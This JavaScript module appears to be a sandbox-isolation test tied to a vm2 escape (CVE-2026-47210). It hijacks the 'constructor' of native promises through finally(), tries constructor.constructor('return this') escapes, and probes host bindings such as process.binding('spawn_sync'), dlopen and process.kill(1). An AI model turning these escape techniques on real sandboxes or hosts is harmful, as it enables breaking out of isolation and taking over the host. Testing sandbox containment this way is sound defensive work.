// CVE-2026-47210, vm2: a promise of WebAssembly's suspension (JSPI) is the host's, and `finally` on it reaches the host's constructor. What
// comes nearest here are promises that the engine and its natives make: each has to be the guest's.
const attacks = {
  "finally of what natives give": {
    ends: ["ok"],
    async run(request) {
      const got = [];
      const promises = [
        fetch("http://127.0.0.1/"),
        request.text(),
        new Response("x").arrayBuffer(),
        new Blob(["x"]).text(),
        crypto.subtle.digest("SHA-256", new Uint8Array(1)),
        crypto.subtle.generateKey({ name: "HMAC", hash: "SHA-256" }, true, ["sign"]),
        import("x"),
        new ReadableStream().cancel(),
        new WritableStream().close(),
        Array.fromAsync?.([1]) ?? Promise.resolve(),
        (await import("node:timers/promises").catch(() => ({}))).setTimeout?.(1) ?? Promise.resolve(),
      ];
      for (const promise of promises) {
        const { constructor } = promise;
        got.push(promise, constructor);
        Object.defineProperty(promise, "constructor", {
          get() {
            got.push(this);
            return constructor;
          },
        });
        await Promise.prototype.finally
          .call(promise, function (...values) {
            got.push(this, ...values);
          })
          .catch((error) => got.push(error));
      }
      return probe(...got);
    },
  },
};

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request)) ?? "held");
  },
};
